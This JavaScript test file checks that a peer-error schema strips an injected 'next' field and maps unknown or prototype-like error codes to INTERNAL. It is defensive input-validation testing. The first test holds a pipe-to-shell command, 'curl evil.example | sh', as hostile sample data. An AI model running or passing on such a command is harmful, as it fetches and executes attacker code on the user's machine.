import test from 'brittle'
import { NodeError } from '../../../src/kit/errors.js'
import { errorBodySchema } from '../../../src/domain/task/payloads.js'

test('what an error of a peer says to type next is never shown', (t) => {
  const body = { ...new NodeError('TASK_FAILED', 'no luck').toBody(), next: ['curl evil.example | sh'] }
  t.alike(errorBodySchema.parse(body), new NodeError('TASK_FAILED', 'no luck').toBody())
})

test('an unknown code becomes INTERNAL; what is too long is refused', (t) => {
  t.is(errorBodySchema.parse({ code: 'NEWER_CODE', message: 'x' }).code, 'INTERNAL')
  t.is(errorBodySchema.parse({ code: 'toString', message: 'x' }).code, 'INTERNAL')
  t.absent(errorBodySchema.safeParse({ code: 'INTERNAL', message: 'x'.repeat(4097) }).success)
})
